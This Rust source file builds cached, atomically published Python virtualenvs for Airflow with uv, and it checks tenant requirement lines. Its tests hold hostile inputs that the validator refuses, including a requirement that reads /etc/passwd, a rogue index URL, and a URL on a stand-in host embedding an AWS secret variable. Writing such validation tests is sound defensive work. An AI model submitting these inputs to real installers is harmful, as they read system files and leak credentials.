//! Python runtimes: a virtualenv per (Airflow version, requirements), built with `uv` and
//! shared by every environment with the same inputs ([`RuntimeKey`]). Requirements are resolved
//! together with `apache-airflow[celery,postgres,redis]` (the Celery executor, the Postgres
//! driver and the Redis client), so a set that conflicts with Airflow, or does not exist, fails
//! with uv's own message ([`RuntimeError::Resolve`]) and touches no runtime in use.
//!
//! Publishing is atomic: a runtime is built in a staging folder next to its final place and
//! renamed into `root/<key>` once complete, so `root/<key>` either does not exist or is whole,
//! whoever crashed when. A virtualenv normally holds absolute paths (script shebangs), which a
//! rename would break; the venv is therefore made with `uv venv --relocatable`, whose scripts
//! find their interpreter relative to themselves (docs/runtime-notes.md shows what was checked).
//! Calls for one key in this process wait for each other (a lock per key); builds of one key in
//! two processes both run and the first rename wins (a rename onto a non-empty folder fails).
//!
//! Bytecode is compiled at build time (`--compile-bytecode`): the runtimes are shared and
//! processes run with `PYTHONDONTWRITEBYTECODE=1`, so nothing would ever cache it, and every
//! Airflow command would pay for compiling its imports again.

use std::collections::HashMap;
use std::fmt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, PoisonError};
use std::time::{Duration, Instant, SystemTime};

use rand::distributions::{Alphanumeric, DistString};
use sha2::{Digest, Sha256};
use tokio::process::Command;

/// Written last into a complete runtime: what it was built from.
const MARKER: &str = "hangar-runtime.json";
/// The normalised requirements a runtime was built from, kept inside it.
const REQUIREMENTS: &str = "hangar-requirements.txt";
/// Prefix of the folders runtimes are built in before being renamed into place.
const STAGING: &str = ".staging-";
/// A staging folder older than this belongs to a build that crashed, not to one still running.
const STALE_STAGING: Duration = Duration::from_secs(24 * 3600);
/// Changes whenever the build recipe (extras, uv flags) changes, so old runtimes are not reused.
const RECIPE: &str = "hangar-python-runtime/1 apache-airflow[celery,postgres,redis]";
/// The Hangar executor (`executor: "hangar"`), installed into every runtime as the package
/// `hangar_executor`; part of every runtime's key, so a new version builds new runtimes.
pub const HANGAR_EXECUTOR_PY: &str = include_str!("../../python/hangar_executor/__init__.py");
/// The log guard (`hangar_log_guard`): a full disk under an environment's logs drops log lines
/// (and says how many) instead of failing its tasks. Installed into every runtime and loaded
/// when its interpreter starts (by a `.pth` file); part of every runtime's key too.
pub const HANGAR_LOG_GUARD_PY: &str = include_str!("../../python/hangar_log_guard.py");
/// The `.pth` file that loads the log guard.
const HANGAR_LOG_GUARD_PTH: &str = "import hangar_log_guard\n";

/// Variables of the agent passed to uv (besides every `UV_*`): uv expands `${VAR}` in
/// requirement files, so a tenant must never reach the agent's secrets through them.
const UV_ENV: &[&str] = &[
    "PATH",
    "HOME",
    "TMPDIR",
    "LANG",
    "LC_ALL",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "ALL_PROXY",
    "http_proxy",
    "https_proxy",
    "no_proxy",
    "all_proxy",
    "PYENV_ROOT",
    "PYENV_VERSION",
];

#[derive(Debug, thiserror::Error)]
pub enum RuntimeError {
    #[error("failed to accept Airflow version {version:?}: expected a release such as 3.3.2")]
    Version { version: String },
    #[error("failed to prepare {path} for runtime {key}")]
    Files {
        key: RuntimeKey,
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("failed to run uv ({uv}) for runtime {key}: is it installed? (scripts/bootstrap installs it)")]
    Spawn {
        key: RuntimeKey,
        uv: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("failed to create the virtualenv of runtime {key}: {message}")]
    Venv { key: RuntimeKey, message: String },
    /// The requirements are refused or do not resolve together with Airflow: the tenant must
    /// change them (retrying cannot help). `message` is uv's own text, or names the refused line.
    #[error("failed to resolve the requirements of runtime {key}: {message}")]
    Resolve { key: RuntimeKey, message: String },
    /// Anything else uv failed at (network, disk): retrying may help.
    #[error("failed to install runtime {key}: {message}")]
    Install { key: RuntimeKey, message: String },
}

/// The identity of a runtime: a hash of the build recipe, the Airflow version and the
/// normalised requirements ([`normalise_requirements`]), as 16 hex digits. Environments with
/// equal keys share one runtime.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct RuntimeKey(String);

impl RuntimeKey {
    pub fn new(airflow_version: &str, requirements: &str) -> Self {
        Self::with_python(airflow_version, requirements, None)
    }

    /// The key of a runtime built with a chosen interpreter ([`RuntimeCache::with_python`]),
    /// so runtimes of different interpreters never share a folder.
    pub fn with_python(airflow_version: &str, requirements: &str, python: Option<&str>) -> Self {
        let mut h = Sha256::new();
        h.update(RECIPE.as_bytes());
        h.update(HANGAR_EXECUTOR_PY.as_bytes());
        h.update(HANGAR_LOG_GUARD_PY.as_bytes());
        h.update(HANGAR_LOG_GUARD_PTH.as_bytes());
        if let Some(python) = python {
            h.update(b"\npython=");
            h.update(python.as_bytes());
        }
        h.update(b"\nairflow==");
        h.update(airflow_version.trim().as_bytes());
        h.update(b"\n");
        for line in normalise_requirements(requirements) {
            h.update(line.as_bytes());
            h.update(b"\n");
        }
        Self(
            h.finalize()
                .iter()
                .take(8)
                .map(|b| format!("{b:02x}"))
                .collect(),
        )
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for RuntimeKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// The requirement lines that matter, in a canonical order: each line trimmed, comments (a
/// line starting with `#`, or `#` after whitespace, as pip reads them) and blank lines dropped,
/// then sorted and deduplicated. Sorting is sound because only requirement lines are accepted
/// ([`check_requirement`]): pip options, whose order could matter, are refused.
pub fn normalise_requirements(requirements: &str) -> Vec<String> {
    let mut lines: Vec<String> = requirements
        .lines()
        .map(strip_comment)
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(str::to_owned)
        .collect();
    lines.sort();
    lines.dedup();
    lines
}

fn strip_comment(line: &str) -> &str {
    let mut prev_is_space = true;
    for (i, c) in line.char_indices() {
        if c == '#' && prev_is_space {
            return &line[..i];
        }
        prev_is_space = c.is_whitespace();
    }
    line
}

/// Whether a (normalised) requirement line may be installed: a package name with optional
/// extras, version specifiers and markers, or `name @ <http(s) or git+https URL>`. Refused
/// with the reason: pip options (`-r`, `-c`, `-e`, `--index-url`, …), local paths and `file:`
/// URLs (they would read the agent's files), and `$` (uv expands `${VAR}` from the agent's
/// environment).
pub fn check_requirement(line: &str) -> Result<(), &'static str> {
    if line.starts_with('-') {
        return Err("pip options (-r, -c, -e, --index-url, ...) are not accepted");
    }
    if line.contains('$') {
        return Err("environment variables are not expanded");
    }
    if line.ends_with('\\') {
        return Err("line continuations are not accepted");
    }
    if !line.starts_with(|c: char| c.is_ascii_alphanumeric()) {
        return Err("a requirement starts with a package name");
    }
    if line.to_ascii_lowercase().contains("file:") {
        return Err("local files are not accepted");
    }
    let (head, marker) = line.split_once(';').unwrap_or((line, ""));
    let (name, url) = match head.split_once('@') {
        Some((name, url)) => (name, Some(url.trim())),
        None => (head, None),
    };
    if name.contains(['/', '\\', ':']) || marker.contains(" -") || head.contains(" -") {
        return Err("local paths and pip options are not accepted");
    }
    match url {
        Some(url)
            if !["https://", "http://", "git+https://"]
                .iter()
                .any(|scheme| url.starts_with(scheme)) =>
        {
            Err("a direct reference must be an https://, http:// or git+https:// URL")
        }
        _ => Ok(()),
    }
}

/// A PEP 440 release as Airflow publishes them (`3.3.2`, `3.4.0rc1`): it is pasted into a
/// requirement, so nothing else may pass.
fn check_airflow_version(version: &str) -> Result<(), RuntimeError> {
    let ok = version.len() <= 32
        && version.starts_with(|c: char| c.is_ascii_digit())
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '!' | '-'));
    if ok {
        Ok(())
    } else {
        Err(RuntimeError::Version {
            version: version.to_owned(),
        })
    }
}

/// A complete runtime.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Runtime {
    pub key: RuntimeKey,
    /// The virtualenv (absolute).
    pub dir: PathBuf,
}

impl Runtime {
    /// A program of the runtime (`airflow`, `python`, `celery`).
    pub fn bin(&self, name: &str) -> PathBuf {
        self.dir.join("bin").join(name)
    }
}

/// The runtimes of this machine, one folder each under `root`.
#[derive(Debug)]
pub struct RuntimeCache {
    root: PathBuf,
    uv: PathBuf,
    python: Option<String>,
    locks: std::sync::Mutex<HashMap<RuntimeKey, Arc<tokio::sync::Mutex<()>>>>,
}

/// Removes a staging folder that was not published (failed or cancelled build).
struct Staging {
    dir: PathBuf,
    published: bool,
}

impl Drop for Staging {
    fn drop(&mut self) {
        if !self.published && self.dir.exists() {
            if let Err(e) = std::fs::remove_dir_all(&self.dir) {
                tracing::warn!(dir = %self.dir.display(), error = %e, "failed to remove a staging runtime");
            }
        }
    }
}

/// uv's explanation: its error output, trimmed (`--quiet` leaves only the error).
fn uv_message(stderr: &[u8]) -> String {
    let text = String::from_utf8_lossy(stderr);
    let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    lines[lines.len().saturating_sub(40)..]
        .join("\n")
        .trim()
        .to_owned()
}

/// Whether uv failed because of the requirements (permanent) rather than the network or the
/// machine (transient). uv exits 1 or 2 for both, so this reads its message.
fn is_requirements_failure(message: &str) -> bool {
    const TRANSIENT: &[&str] = &[
        "error sending request",
        "Failed to fetch",
        "Failed to download",
        "timed out",
        "No space left",
        "Permission denied",
    ];
    const PERMANENT: &[&str] = &[
        "No solution found",
        "not found in the package registry",
        "Couldn't parse",
        "Failed to parse",
        "Failed to build",
        "is invalid",
    ];
    !TRANSIENT.iter().any(|m| message.contains(m)) && PERMANENT.iter().any(|m| message.contains(m))
}

impl RuntimeCache {
    /// `uv` is the uv program (a path, or a name looked up on PATH). Runtimes use uv's default
    /// Python (the first suitable interpreter it finds) unless [`RuntimeCache::with_python`].
    pub fn new(root: &Path, uv: &Path) -> Self {
        Self {
            root: std::path::absolute(root).unwrap_or_else(|_| root.to_owned()),
            uv: uv.to_owned(),
            python: None,
            locks: std::sync::Mutex::new(HashMap::new()),
        }
    }

    /// Builds runtimes with this Python (`uv venv --python`: a version such as `3.12` or an
    /// interpreter path). It is part of the runtime's key.
    pub fn with_python(mut self, python: impl Into<String>) -> Self {
        self.python = Some(python.into());
        self
    }

    fn lock_for(&self, key: &RuntimeKey) -> Arc<tokio::sync::Mutex<()>> {
        self.locks
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .entry(key.clone())
            .or_default()
            .clone()
    }

    /// The runtime for these inputs: at once if it exists, else built (Airflow with its
    /// Celery, Postgres and Redis extras, plus the requirements) and published atomically.
    /// Cancelling the future kills uv and removes the unfinished build.
    pub async fn ensure(
        &self,
        airflow_version: &str,
        requirements: &str,
    ) -> Result<Runtime, RuntimeError> {
        let key = RuntimeKey::with_python(airflow_version, requirements, self.python.as_deref());
        let runtime = Runtime {
            dir: self.root.join(key.as_str()),
            key: key.clone(),
        };
        if runtime.dir.join(MARKER).is_file() {
            return Ok(runtime);
        }
        check_airflow_version(airflow_version)?;
        let lines = normalise_requirements(requirements);
        for line in &lines {
            check_requirement(line).map_err(|reason| RuntimeError::Resolve {
                key: key.clone(),
                message: format!("requirement `{line}` is not accepted: {reason}"),
            })?;
        }

        let lock = self.lock_for(&key);
        let _held = lock.lock().await;
        if runtime.dir.join(MARKER).is_file() {
            return Ok(runtime);
        }
        let files = |path: &Path| {
            let (key, path) = (key.clone(), path.to_owned());
            move |source| RuntimeError::Files { key, path, source }
        };
        if runtime.dir.exists() {
            // Not made by this code (it publishes whole runtimes only): rebuild it.
            tracing::warn!(key = %key, "removing an incomplete runtime");
            std::fs::remove_dir_all(&runtime.dir).map_err(files(&runtime.dir))?;
        }
        std::fs::create_dir_all(&self.root).map_err(files(&self.root))?;
        self.remove_stale_staging(&key);

        let started = Instant::now();
        let suffix = Alphanumeric.sample_string(&mut rand::thread_rng(), 8);
        let mut staging = Staging {
            dir: self.root.join(format!("{STAGING}{key}-{suffix}")),
            published: false,
        };
        tracing::info!(key = %key, airflow_version, requirements = lines.len(), "building runtime");
        self.build(&key, &staging.dir, airflow_version, &lines)
            .await?;
        match std::fs::rename(&staging.dir, &runtime.dir) {
            Ok(()) => staging.published = true,
            // Another process published the same key first: use its runtime, drop ours.
            Err(_) if runtime.dir.join(MARKER).is_file() => {}
            Err(source) => {
                return Err(RuntimeError::Files {
                    key,
                    path: runtime.dir,
                    source,
                })
            }
        }
        tracing::info!(key = %key, elapsed_s = started.elapsed().as_secs_f64(), "runtime built");
        Ok(runtime)
    }

    /// Removes this key's staging folders left by builds that crashed (old ones only: a
    /// young one may be another process's build in progress).
    fn remove_stale_staging(&self, key: &RuntimeKey) {
        let prefix = format!("{STAGING}{key}-");
        let Ok(entries) = std::fs::read_dir(&self.root) else {
            return;
        };
        for entry in entries.flatten() {
            let stale = entry
                .metadata()
                .and_then(|m| m.modified())
                .ok()
                .and_then(|t| SystemTime::now().duration_since(t).ok())
                .is_some_and(|age| age > STALE_STAGING);
            if stale && entry.file_name().to_string_lossy().starts_with(&prefix) {
                let _ = std::fs::remove_dir_all(entry.path());
            }
        }
    }

    /// uv with only the environment it needs (see [`UV_ENV`]), run from the cache root so no
    /// project or `.python-version` of the agent's working directory changes what it does.
    fn uv(&self) -> Command {
        let mut cmd = Command::new(&self.uv);
        cmd.env_clear()
            .envs(std::env::vars_os().filter(|(name, _)| {
                let name = name.to_string_lossy();
                name.starts_with("UV_") || UV_ENV.contains(&name.as_ref())
            }))
            .current_dir(&self.root)
            .args(["--quiet", "--color", "never"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);
        cmd
    }

    async fn build(
        &self,
        key: &RuntimeKey,
        dir: &Path,
        airflow_version: &str,
        lines: &[String],
    ) -> Result<(), RuntimeError> {
        let spawn = |source| RuntimeError::Spawn {
            key: key.clone(),
            uv: self.uv.clone(),
            source,
        };
        let files = |path: &Path| {
            let (key, path) = (key.clone(), path.to_owned());
            move |source| RuntimeError::Files { key, path, source }
        };

        let mut venv = self.uv();
        venv.args(["venv", "--relocatable", "--no-project"]);
        if let Some(python) = &self.python {
            venv.args(["--python", python]);
        }
        let out = venv.arg(dir).output().await.map_err(spawn)?;
        if !out.status.success() {
            return Err(RuntimeError::Venv {
                key: key.clone(),
                message: uv_message(&out.stderr),
            });
        }

        let reqs = dir.join(REQUIREMENTS);
        let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
        std::fs::write(&reqs, text).map_err(files(&reqs))?;
        let airflow = format!("apache-airflow[celery,postgres,redis]=={airflow_version}");
        let out = self
            .uv()
            .args(["pip", "install", "--compile-bytecode", "--python"])
            .arg(dir.join("bin").join("python"))
            .arg(&airflow)
            .arg("-r")
            .arg(&reqs)
            .output()
            .await
            .map_err(spawn)?;
        if !out.status.success() {
            let message = uv_message(&out.stderr);
            return Err(if is_requirements_failure(&message) {
                RuntimeError::Resolve {
                    key: key.clone(),
                    message,
                }
            } else {
                RuntimeError::Install {
                    key: key.clone(),
                    message,
                }
            });
        }

        install_executor(dir).map_err(|(path, source)| RuntimeError::Files {
            key: key.clone(),
            path,
            source,
        })?;

        let marker = dir.join(MARKER);
        let json = serde_json::json!({
            "key": key.as_str(),
            "recipe": RECIPE,
            "airflow_version": airflow_version,
            "requirements": lines,
        });
        std::fs::write(&marker, format!("{json:#}\n")).map_err(files(&marker))
    }
}

/// Writes the Hangar executor's package and the log guard (with the `.pth` file that loads it)
/// into the runtime's `site-packages`.
fn install_executor(dir: &Path) -> Result<(), (PathBuf, std::io::Error)> {
    let lib = dir.join("lib");
    let site = std::fs::read_dir(&lib)
        .map_err(|e| (lib.clone(), e))?
        .flatten()
        .map(|e| e.path().join("site-packages"))
        .find(|p| p.is_dir())
        .ok_or_else(|| {
            (
                lib.clone(),
                std::io::Error::new(std::io::ErrorKind::NotFound, "no site-packages"),
            )
        })?;
    let package = site.join("hangar_executor");
    std::fs::create_dir_all(&package).map_err(|e| (package.clone(), e))?;
    let file = package.join("__init__.py");
    std::fs::write(&file, HANGAR_EXECUTOR_PY).map_err(|e| (file, e))?;
    for (name, text) in [
        ("hangar_log_guard.py", HANGAR_LOG_GUARD_PY),
        ("hangar_log_guard.pth", HANGAR_LOG_GUARD_PTH),
    ] {
        let file = site.join(name);
        std::fs::write(&file, text).map_err(|e| (file, e))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;
    use rstest::rstest;

    #[rstest]
    #[case::comments_blank_lines_and_spacing("pandas==2.2.0\n# pinned\n\n  requests  # http\n")]
    #[case::order_and_duplicates("requests\npandas==2.2.0\nrequests\n")]
    #[case::windows_line_ends("pandas==2.2.0\r\nrequests\r\n")]
    fn keys_ignore_what_pip_ignores(#[case] requirements: &str) {
        assert_eq!(
            RuntimeKey::new("3.3.2", requirements),
            RuntimeKey::new("3.3.2", "pandas==2.2.0\nrequests")
        );
    }

    #[rstest]
    #[case::other_pin("3.3.2", "pandas==2.2.1\nrequests")]
    #[case::other_airflow("3.3.1", "pandas==2.2.0\nrequests")]
    #[case::fewer_requirements("3.3.2", "pandas==2.2.0")]
    #[case::url_fragment_is_not_a_comment("3.3.2", "pandas==2.2.0\nrequests#x")]
    fn keys_change_with_what_is_installed(#[case] version: &str, #[case] requirements: &str) {
        assert_ne!(
            RuntimeKey::new(version, requirements),
            RuntimeKey::new("3.3.2", "pandas==2.2.0\nrequests")
        );
    }

    #[test]
    fn keys_are_sixteen_hex_digits() {
        let key = RuntimeKey::new("3.3.2", "");
        assert_eq!(key.as_str().len(), 16);
        assert!(key.as_str().chars().all(|c| c.is_ascii_hexdigit()));
    }

    #[rstest]
    #[case("pandas")]
    #[case("pandas==2.2.0")]
    #[case("apache-airflow-providers-amazon[s3fs]>=9,<10")]
    #[case("numpy; python_version >= \"3.11\"")]
    #[case("tomli @ https://files.example/tomli-2.0.1-py3-none-any.whl")]
    #[case("mylib @ git+https://github.com/org/mylib@v1.2")]
    fn requirement_lines_are_accepted(#[case] line: &str) {
        assert_eq!(check_requirement(line), Ok(()));
    }

    #[rstest]
    #[case::nested_file("-r /etc/passwd")]
    #[case::constraints("-c other.txt")]
    #[case::editable("-e ./src")]
    #[case::index("--index-url https://evil.example/simple")]
    #[case::env_var("foo @ https://evil.example/${AWS_SECRET_ACCESS_KEY}")]
    #[case::absolute_path("/etc/passwd")]
    #[case::relative_path("./vendor/pkg")]
    #[case::bare_url("https://files.example/tomli-2.0.1-py3-none-any.whl")]
    #[case::file_url("tomli @ file:///etc/passwd")]
    #[case::ssh_url("mylib @ git+ssh://git@github.com/org/mylib")]
    #[case::option_after_name("pandas --config-settings=x=y")]
    #[case::continuation("pandas \\")]
    fn requirement_lines_that_reach_beyond_pypi_are_refused(#[case] line: &str) {
        assert!(check_requirement(line).is_err(), "{line}");
    }

    #[rstest]
    #[case("3.3.2", true)]
    #[case("3.4.0rc1", true)]
    #[case("3.3.2 --index-url x", false)]
    #[case("", false)]
    #[case("latest", false)]
    fn airflow_versions_are_releases(#[case] version: &str, #[case] ok: bool) {
        assert_eq!(check_airflow_version(version).is_ok(), ok);
    }

    #[test]
    fn uv_failures_are_told_apart() {
        assert!(is_requirements_failure(
            "error: No solution found when resolving dependencies\n  cause: Because x was not found in the package registry"
        ));
        assert!(!is_requirements_failure(
            "error: Failed to fetch: https://pypi.org/simple/six/\n  cause: error sending request for url"
        ));
    }

    /// The cache the integration tests share, so Airflow is installed once per machine and
    /// reruns are cache hits (`HANGAR_TEST_RUNTIME_DIR` moves it).
    fn shared_root() -> PathBuf {
        std::env::var_os("HANGAR_TEST_RUNTIME_DIR")
            .map(PathBuf::from)
            .unwrap_or_else(|| std::env::temp_dir().join("hangar-runtime-test-cache"))
    }

    async fn run(program: &Path, args: &[&str], airflow_home: &Path) -> String {
        let out = tokio::time::timeout(
            Duration::from_secs(120),
            Command::new(program)
                .args(args)
                .env("AIRFLOW_HOME", airflow_home)
                .kill_on_drop(true)
                .output(),
        )
        .await
        .expect("finished within 120 s")
        .unwrap();
        assert!(
            out.status.success(),
            "{} {args:?}: {}",
            program.display(),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    }

    #[tokio::test]
    async fn ensure_builds_a_runnable_airflow_once_then_serves_it_from_the_cache() {
        let cache = RuntimeCache::new(&shared_root(), Path::new("uv"));
        let started = Instant::now();
        let rt = cache.ensure("3.3.2", "").await.unwrap();
        eprintln!("first ensure (build or hit): {:?}", started.elapsed());
        assert!(rt.dir.join(MARKER).is_file());
        let home = tempfile::tempdir().unwrap();
        // Built in a staging folder and renamed: the scripts must still find their Python.
        assert_eq!(
            run(&rt.bin("airflow"), &["version"], home.path()).await,
            "3.3.2"
        );
        let imports =
            "import airflow.providers.celery.executors.celery_executor, psycopg2, redis; \
                       from hangar_executor import HangarExecutor";
        run(&rt.bin("python"), &["-c", imports], home.path()).await;
        // The log guard is loaded with the interpreter: structlog's loggers drop what a full
        // disk refuses (every write to /dev/full fails with ENOSPC) and count it, never raise.
        let full_disk = "import structlog, hangar_log_guard as g\n\
            b = structlog.BytesLogger(open('/dev/full', 'ab'))\n\
            w = structlog.WriteLogger(open('/dev/full', 'a'))\n\
            for i in range(2000):\n    b.info(b'x' * 100); w.error('y' * 100)\n\
            print(sorted(d.lines > 0 for d in g._dropped.values()))";
        assert_eq!(
            run(&rt.bin("python"), &["-c", full_disk], home.path()).await,
            "[True, True]"
        );

        let started = Instant::now();
        let again = cache.ensure("3.3.2", "# same inputs\n\n").await.unwrap();
        eprintln!("second ensure (cache hit): {:?}", started.elapsed());
        assert_eq!(again, rt);
        assert!(
            started.elapsed() < Duration::from_secs(1),
            "{:?}",
            started.elapsed()
        );
    }

    #[tokio::test]
    async fn ensure_fails_with_uvs_message_and_leaves_nothing_when_requirements_do_not_resolve() {
        let root = shared_root();
        let cache = RuntimeCache::new(&root, Path::new("uv"));
        let err = cache
            .ensure("3.3.2", "no-such-package==0\n")
            .await
            .unwrap_err();
        let RuntimeError::Resolve { key, message } = &err else {
            panic!("expected a resolution error, got {err:?}");
        };
        assert!(message.contains("no-such-package"), "{message}");
        assert!(!root.join(key.as_str()).exists());
        let staging = format!("{STAGING}{key}-");
        let left: Vec<_> = std::fs::read_dir(&root)
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().starts_with(&staging))
            .collect();
        assert!(left.is_empty(), "{left:?}");
    }

    #[tokio::test]
    async fn ensure_refuses_requirements_that_read_the_agents_files() {
        let root = tempfile::tempdir().unwrap();
        let cache = RuntimeCache::new(root.path(), Path::new("uv"));
        let err = cache.ensure("3.3.2", "-r /etc/passwd\n").await.unwrap_err();
        assert!(matches!(err, RuntimeError::Resolve { .. }), "{err:?}");
        assert_eq!(std::fs::read_dir(root.path()).unwrap().count(), 0);
    }

    #[tokio::test]
    async fn concurrent_ensures_of_one_key_build_it_once() {
        let root = tempfile::tempdir().unwrap();
        let cache = RuntimeCache::new(root.path(), Path::new("uv"));
        let (a, b) = tokio::join!(cache.ensure("3.3.2", ""), cache.ensure("3.3.2", ""));
        let (a, b) = (a.unwrap(), b.unwrap());
        assert_eq!(a, b);
        let entries: Vec<_> = std::fs::read_dir(root.path())
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert_eq!(entries, vec![std::ffi::OsString::from(a.key.as_str())]);
        let home = tempfile::tempdir().unwrap();
        assert_eq!(
            run(&a.bin("airflow"), &["version"], home.path()).await,
            "3.3.2"
        );
    }
}
